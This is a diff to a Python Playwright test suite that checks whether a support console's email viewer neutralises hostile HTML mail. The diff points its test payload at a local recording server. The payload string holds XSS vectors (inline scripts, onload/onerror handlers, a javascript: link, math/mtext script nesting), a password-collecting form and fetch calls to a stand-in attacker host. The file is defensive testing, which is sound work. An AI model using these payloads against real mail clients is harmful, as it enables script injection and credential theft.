@@ -2,32 +2,57 @@
 
 from __future__ import annotations
 
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from secrets import token_hex
-from urllib.parse import urlsplit
 
 import pytest
 from playwright.sync_api import expect
 
 from infra.local.outside import mail, wait_for
 
-HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
-<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/style.css">
-<script>window.top.hacked = 1; parent.hacked = 1; fetch("https://evil.example/script")</script></head>
-<body onload="parent.hacked = 2" background="https://evil.example/background.png">
-<h1 style="background:url(https://evil.example/css.png)">Rachunek</h1>
-<img src="https://evil.example/pixel.gif" onerror="parent.hacked = 3"><img src="x:y" onerror="parent.hacked = 4">
-<svg onload="parent.hacked = 5"><image href="https://evil.example/svg.png"></image></svg>
-<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
-<video poster="https://evil.example/poster.png" src="https://evil.example/video"></video>
-<form action="https://evil.example/form"><input name="password"><button id="go">Log in</button></form>
-<a id="out" href="https://evil.example/link" target="_top">Tu kliknij</a>
+HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=EVIL/refresh">
+<base href="EVIL/"><link rel="stylesheet" href="EVIL/style.css">
+<script>window.top.hacked = 1; parent.hacked = 1; fetch("EVIL/script")</script></head>
+<body onload="parent.hacked = 2" background="EVIL/background.png">
+<h1 style="background:url(EVIL/css.png)">Rachunek</h1>
+<img src="EVIL/pixel.gif" onerror="parent.hacked = 3"><img src="x:y" onerror="parent.hacked = 4">
+<svg onload="parent.hacked = 5"><image href="EVIL/svg.png"></image></svg>
+<iframe src="EVIL/frame"></iframe><object data="EVIL/object"></object>
+<video poster="EVIL/poster.png" src="EVIL/video"></video>
+<form action="EVIL/form"><input name="password"><button id="go">Log in</button></form>
+<a id="out" href="EVIL/link" target="_top">Tu kliknij</a>
 <a href="javascript:parent.hacked = 6">i tu</a><math><mtext><script>parent.hacked = 7</script></mtext></math>
 </body></html>"""
 
 
-def hostile_mail(subject):
+@pytest.fixture
+def evil():
+    """A server that only writes down what it is asked for: whatever leaves the page arrives there."""
+    asked = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):
+            asked.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        do_POST = do_GET  # noqa: N815  # the library's name
+
+        def log_message(self, *_):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    server.asked, server.address = asked, f"http://127.0.0.1:{server.server_address[1]}"
+    yield server
+    server.shutdown()
+    server.server_close()
+
+
+def hostile_mail(subject, page):
     message = mail(f"{token_hex(4)}@example.pl", "pomoc@hub.example", subject, "Rachunek w załączniku.")
-    message.add_alternative(HOSTILE, subtype="html")
+    message.add_alternative(page, subtype="html")
     return message
 
 
@@ -39,44 +64,51 @@ def shown_frame(agent):
     return frame
 
 
-def hosts_asked(agent):
-    return {urlsplit(url).hostname for url in agent.requests if urlsplit(url).scheme in ("http", "https")}
-
-
 def assert_harmless(agent):
     assert agent.page.evaluate("window.hacked") is None
-    assert hosts_asked(agent) == {"127.0.0.1"}
     assert agent.page.url.startswith(agent.address)
+    assert len(agent.page.context.pages) == 1
 
 
 @pytest.fixture
-def hostile(console, outside):
+def hostile(console, outside, evil):
     subject = f"Rachunek {token_hex(4)}"
-    outside.send_mail(hostile_mail(subject))
+    outside.send_mail(hostile_mail(subject, HOSTILE.replace("EVIL", evil.address)))
     return console().log_in().open(subject)
 
 
-def test_a_hostile_mail_runs_no_script_and_loads_nothing(hostile):
+def test_a_hostile_mail_runs_no_script_and_loads_nothing(hostile, evil):
     frame = shown_frame(hostile)
     assert frame.locator("script, iframe, form, object, link[href*=evil], svg").count() == 0
     expect(hostile.page.locator(".entry")).to_contain_text(["not loaded"])
     assert_harmless(hostile)
+    assert evil.asked == []
 
 
-def test_the_frame_holds_also_what_no_sanitiser_has_seen(hostile, outside, stack):
+def test_the_frame_holds_also_what_no_sanitiser_has_seen(hostile, evil, outside, stack):
     """As if the hub's sanitiser had a hole: the stored HTML version is replaced by the hostile original."""
     (case,) = [c for c in outside.open_cases("care") if c["reference"] == hostile.reference]
     (entry,) = [e for e in outside.thread(case["customer_id"]) if e["html"]]
     digest = entry["html"]["link"].rpartition("/")[2]
     bucket = stack.get_deployed().environment["ATTACHMENT_BUCKET"]
     key = f"att/{case['customer_id']}/{digest}"
-    stack.client("s3").put_object(Bucket=bucket, Key=key, Body=HOSTILE.encode(), ContentType="text/html")
+    stack.client("s3").put_object(
+        Bucket=bucket, Key=key, Body=HOSTILE.replace("EVIL", evil.address).encode(), ContentType="text/html"
+    )
     frame = shown_frame(hostile)
     assert_harmless(hostile)
     frame.locator("#go").click(timeout=3_000)
     frame.locator("#out").click(timeout=3_000)
-    hostile.page.wait_for_timeout(500)
+    hostile.page.wait_for_timeout(1_000)
     assert_harmless(hostile)
+    assert evil.asked == []
+
+
+def test_the_server_that_waits_for_what_leaks_would_hear_it(console, evil):
+    """Without it, the tests above would pass whatever happened."""
+    agent = console()
+    agent.page.set_content(f'<img src="{evil.address}/pixel.gif">')
+    wait_for(lambda: evil.asked, "the picture is asked for")
 
 
 def test_markup_in_names_subjects_and_texts_is_shown_as_it_was_written(console, outside):
@@ -119,7 +151,7 @@ def test_the_page_says_strictly_what_it_may_do(console):
 def test_only_the_consoles_own_page_is_let_in_with_one_click(console):
     agent = console()
     agent.page.goto(agent.address)
-    for headers in ({"Origin": "https://evil.example"}, {}):
+    for headers in ({"Origin": "EVIL"}, {}):
         answer = agent.page.request.post(f"{agent.address}login", data={"user": "agent"}, headers=headers)
         assert answer.status == 403
     wait_for(lambda: agent.page.request.get(f"{agent.address}config.json").ok, "the console")
